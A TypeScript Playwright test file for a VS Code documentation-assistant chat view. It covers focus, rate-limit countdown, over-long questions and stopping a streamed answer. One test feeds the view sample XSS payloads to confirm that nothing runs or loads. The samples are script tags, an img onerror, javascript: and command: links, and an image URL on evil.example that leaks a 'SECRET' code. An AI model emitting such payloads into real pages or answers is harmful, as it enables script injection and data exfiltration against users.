// A turn of the chat view as a user sees it, in Chromium (issue 57: moved here from the workbench,
// where each cost a VS Code): what it says while the assistant searches or waits out a rate limit,
// where the keyboard's focus stays, the question the box keeps or lets go, a hostile answer that
// runs nothing, and Stop during a flood.

import * as assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import { sectionsAnswer } from '../emulator/floodAnswers';
import { launchChromium } from '../runner/workbench';
import { openChatView, postToView } from './chatView';

interface PageGlobals {
  readonly posted: { type: string; text?: string; url?: string }[];
  readonly document: {
    title: string;
    readonly activeElement: { className: string } | null;
    querySelector(selector: string): { value: string; dataset: Record<string, string> } | null;
  };
  readonly __pwned?: unknown;
}

describe('a turn of the chat view, in Chromium', function () {
  this.timeout(60_000);
  let browser: Browser;
  let page: Page;

  before(async () => (browser = await launchChromium()));
  after(async () => browser?.close());
  beforeEach(async () => (page = await openChatView(browser)));
  afterEach(async () => page?.close());

  const posted = () => page.evaluate(() => (globalThis as unknown as PageGlobals).posted);
  const focused = () => page.evaluate(() => (globalThis as unknown as PageGlobals).document.activeElement?.className ?? '');
  const box = () => page.locator('textarea.question-input');

  it('says what the assistant searches for with no empty answer, keeps the focus in the box while the answer comes, and shows what was sent with it', async () => {
    await box().fill('How do I stop an answer?');
    await box().press('Enter');
    assert.deepEqual(
      (await posted()).filter((message) => message.type === 'ask'),
      [{ type: 'ask', text: 'How do I stop an answer?' }],
    );
    assert.equal(await box().inputValue(), 'How do I stop an answer?', 'kept until the extension takes it');
    await postToView(page, { type: 'askResult', accepted: true });
    assert.equal(await box().inputValue(), '', 'an accepted question leaves the box');

    const turn = { id: 't', question: 'How do I stop an answer?', answer: '', sources: [], status: 'streaming' };
    await postToView(page, { type: 'turnStarted', turn: { ...turn, context: { label: 'src/sample.ts:1-3' } } });
    await postToView(page, { type: 'activity', turnId: 't', activity: { kind: 'searching', query: 'How do I stop an answer?' } });
    assert.equal(await page.locator('.turn .activity').innerText(), 'Searching the documentation for "How do I stop an answer?"…');
    assert.equal((await page.locator('.turn .answer').innerText()).trim(), '', 'no text yet, and no empty answer shown as one');
    assert.equal(await page.locator('.turn .context-badge .context-label').innerText(), 'src/sample.ts:1-3');

    await box().focus();
    await postToView(page, { type: 'activity', turnId: 't' });
    for (const text of ['Press **Stop**', ' to keep what arrived.\n\n', 'Then ask again.\n'])
      await postToView(page, { type: 'delta', turnId: 't', text });
    // The end, without the text the deltas brought, as the extension sends it.
    const { answer: _sent, ...ended } = turn;
    await postToView(page, { type: 'turnEnded', turn: { ...ended, status: 'done', sources: [{ url: '/guides/chat', title: 'Chat' }] } });
    await page.locator('.turn[data-status="done"]').waitFor();
    assert.match(await page.locator('.turn .answer').innerText(), /^Press Stop to keep what arrived\.\s+Then ask again\.$/);
    assert.equal(await focused(), 'question-input', 'the focus stays in the question box while the answer comes');
  });

  it('shows a rate limit at once, counts down, and offers to retry now', async () => {
    await postToView(page, { type: 'turnStarted', turn: { id: 'w', question: 'q', answer: '', sources: [], status: 'streaming' } });
    await postToView(page, { type: 'activity', turnId: 'w', activity: { kind: 'waiting', reason: 'rateLimit', waitMs: 5_000 } });
    const wait = page.locator('.turn-wait .wait-text');
    assert.equal(await wait.innerText(), "The platform's rate limit was reached. Trying again in 5 s…");
    await wait.filter({ hasText: 'Trying again in 4 s…' }).waitFor({ timeout: 10_000 });
    await page.getByRole('button', { name: 'Retry now, without waiting' }).click();
    assert.deepEqual((await posted()).at(-1), { type: 'retryNow', turnId: 'w' });
  });

  it('runs nothing from a hostile answer: no element, no live link, nothing loaded, a click posts nothing unsafe', async () => {
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const answer = [
      'Hostile answer.',
      '',
      '<script>window.__pwned = "script"; document.title = "pwned";</script>',
      '',
      '<img src="https://evil.example/x.png" onerror="document.title = \'pwned by img\'">',
      '',
      "[click me](javascript:document.title='pwned by link') and [run a command](command:workbench.action.terminal.new)",
      '',
      '<a href="javascript:alert(1)">raw anchor</a> [mail](mailto:a@evil.example) [vs](vscode://evil.example/x)',
      '',
      '![leak](https://evil.example/leak.png?code=SECRET)',
      '',
      'End of answer.',
    ].join('\n');
    const sources = [
      { url: 'vscode://evil.example/open', title: 'A vscode link' },
      { url: 'mailto:x@evil.example', title: 'A mail link' },
    ];
    await postToView(page, { type: 'turnEnded', turn: { id: 'h', question: 'Say something hostile', answer, sources, status: 'done' } });
    const turn = page.locator('.turn .answer');
    assert.equal(await turn.locator('script, img, iframe, object, embed').count(), 0, 'no raw HTML element was rendered');
    assert.equal(await page.locator('a[href]').count(), 0, 'no live href anywhere');
    assert.equal(
      await turn.locator('a[data-href^="javascript:"], a[data-href^="command:"], a[data-href^="mailto"], a[data-href^="vscode"]').count(),
      0,
      'no unsafe link was rendered',
    );
    assert.match(await turn.innerText(), /<script>window\.__pwned/, 'the raw HTML shows as text');
    assert.deepEqual(
      await page.locator('.source-text').allInnerTexts(),
      ['A vscode link', 'A mail link'],
      'sources of other schemes are text',
    );
    await turn.getByText('click me').click();
    await turn.getByText('run a command').click();
    await turn.getByText('raw anchor').click();
    const after = await page.evaluate(() => {
      const view = globalThis as unknown as PageGlobals;
      return { title: view.document.title, pwned: view.__pwned, links: view.posted.filter((message) => message.type === 'openLink') };
    });
    assert.deepEqual(after, { title: 'Docs Assistant', pwned: undefined, links: [] }, 'a click runs nothing and asks nothing to be opened');
    assert.deepEqual(
      requests.filter((url) => url.includes('evil.example')),
      [],
      'nothing was loaded from the image or link hosts',
    );
  });

  it('keeps a question too long to send in the box, and says why until it changes', async () => {
    const long = 'x'.repeat(100_001);
    await box().evaluate((element: { value: string; dispatchEvent(event: Event): boolean }, text: string) => {
      element.value = text;
      element.dispatchEvent(new Event('input'));
    }, long);
    await box().press('Enter');
    const problem = page.locator('.composer-problem');
    await problem.waitFor();
    assert.match(await problem.innerText(), /100,001 characters long; the limit is 100,000/);
    assert.equal((await box().inputValue()).length, long.length, 'nothing typed is lost');
    assert.equal((await posted()).filter((message) => message.type === 'ask').length, 0, 'nothing was sent');
    await box().fill('A question of a sane length?');
    assert.equal(await problem.isVisible(), false, 'the reason goes once the question changes');
    await box().press('Enter');
    assert.deepEqual((await posted()).at(-1), { type: 'ask', text: 'A question of a sane length?' });
  });

  it('shows each key typed and stops when Stop is clicked while 2 MB pours in, keeping what arrived and the draft', async () => {
    const answer = sectionsAnswer(2 * 1024 * 1024);
    await postToView(page, {
      type: 'turnStarted',
      turn: { id: 'f', question: 'Everything', answer: '', sources: [], status: 'streaming' },
    });
    // The extension's side, in the page: 10,000 deltas on timers, until the view says stop.
    await page.evaluate((text: string) => {
      const view = globalThis as unknown as PageGlobals & { sent: number; dispatchEvent(event: MessageEvent): boolean };
      const size = Math.ceil(text.length / 10_000);
      view.sent = 0;
      const next = () => {
        if (view.posted.some((message) => message.type === 'stop') || view.sent >= text.length) return;
        const delta = text.slice(view.sent, view.sent + size);
        view.sent += delta.length;
        view.dispatchEvent(new MessageEvent('message', { data: { type: 'delta', turnId: 'f', text: delta } }));
        setTimeout(next, 1);
      };
      next();
    }, answer);
    const turn = page.locator('.turn').last();
    await turn.locator('.answer h2').first().waitFor();
    await box().focus();
    await page.keyboard.type('Next question');
    // Read together, in one task of the view: the keys were shown while the answer still streamed.
    const typed = await page.evaluate(() => {
      const view = globalThis as unknown as PageGlobals;
      return {
        value: view.document.querySelector('textarea.question-input')!.value,
        status: view.document.querySelector('.turn')!.dataset.status,
      };
    });
    assert.deepEqual(typed, { value: 'Next question', status: 'streaming' }, 'every key shown while the answer streams');
    await page.locator('button.stop').click();
    const sent = await page.evaluate(() => (globalThis as unknown as { sent: number }).sent);
    assert.ok(sent < answer.length, 'stopped before the end');
    await postToView(page, { type: 'turnEnded', turn: { id: 'f', question: 'Everything', sources: [], status: 'stopped' } });
    await turn.locator('.md-blocks:not([data-catching-up])').waitFor({ timeout: 30_000 });
    // A heading's marks alone, as where the answer stopped ("…\n##"), are an empty heading.
    const headings = (text: string) => (text.match(/^##( |$)/gm) ?? []).length;
    const arrived = headings(answer.slice(0, sent));
    assert.equal(await turn.locator('.answer h2').count(), arrived, 'every section that arrived is drawn, and no other');
    assert.ok(arrived > 0 && arrived < headings(answer));
    assert.equal(await turn.locator('.stopped-note').innerText(), 'Stopped.');
    assert.equal(await box().inputValue(), 'Next question', 'the draft typed during the flood is kept');
  });
});
